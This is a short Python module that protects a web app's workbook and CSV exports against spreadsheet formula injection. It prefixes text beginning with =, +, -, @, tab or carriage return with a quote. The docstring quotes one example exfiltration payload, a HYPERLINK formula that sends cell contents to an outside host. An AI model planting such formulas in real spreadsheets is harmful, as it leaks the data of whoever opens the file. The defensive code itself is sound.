"""Text in a spreadsheet stays text: every workbook and CSV file the app writes leaves through here.

A cell whose text starts with =, +, -, @ (or a tab or carriage return) is run by Excel and LibreOffice as a formula, so
a team called =HYPERLINK("http://host/?"&A1) would send the sheet's figures away when a funder opens it (OWASP, "CSV
injection"). Such text gets a leading quote, as spreadsheets themselves mark text that only looks like a formula.
"""

from __future__ import annotations

import io
from typing import Any

from openpyxl import Workbook

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe(value: Any) -> Any:
    """value as a spreadsheet should show it: text that would start a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def formula_safe(text: str | None) -> str:
    """Free text for a CSV field: like safe(), and None as an empty field."""
    return safe(text) if text else ""


def workbook_bytes(book: Workbook) -> bytes:
    """The .xlsx file of book, with every text cell of every sheet made safe first: the one way a workbook leaves."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    cell.value = safe(cell.value)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
